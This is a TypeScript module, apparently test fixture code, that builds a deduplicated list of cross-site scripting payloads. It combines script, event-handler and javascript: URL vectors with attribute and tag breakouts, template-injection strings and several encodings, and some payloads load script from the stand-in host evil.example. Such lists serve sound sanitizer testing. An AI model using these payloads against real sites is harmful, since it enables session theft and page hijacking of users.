/** What would call `hit()` in a page that took a text for markup, for an address or for code. */
export const scriptPayloads = (): string[] => [
  ...new Set(
    BASES.flatMap((base) =>
      CONTEXTS.flatMap((into) => ENCODINGS.map((encode) => encode(into(base)).replaceAll(/\s+/g, ' ').trim())),
    ),
  ),
]

const BASES = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><animate onbegin=hit() attributeName=x>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<iframe src=javascript:parent.hit()>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<a href=javascript:hit()>x</a>',
  '<math><a xlink:href=javascript:hit()>x',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;javascript:hit()>',
  '<style>@import"//evil.example"</style>',
  '<template shadowrootmode=open><img src=x onerror=hit()>',
  'javascript:hit()',
]

/** Where in a page a text might stand that nobody looked at. */
const CONTEXTS: ((base: string) => string)[] = [
  (base) => base,
  (base) => `">${base}`,
  (base) => `' autofocus onfocus=hit() x='>${base}`,
  (base) => `--></textarea></title>${base}`,
  (base) => `\${hit()}{{constructor.constructor('hit()')()}}${base}`,
]

const ENCODINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll(/[<>:"']/g, (each) => `&#x${each.charCodeAt(0).toString(16)};`),
  encodeURIComponent,
  (text) => text.replaceAll(/[<>:"']/g, (each) => `\\u${each.charCodeAt(0).toString(16).padStart(4, '0')}`),
  (text) => text.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
]
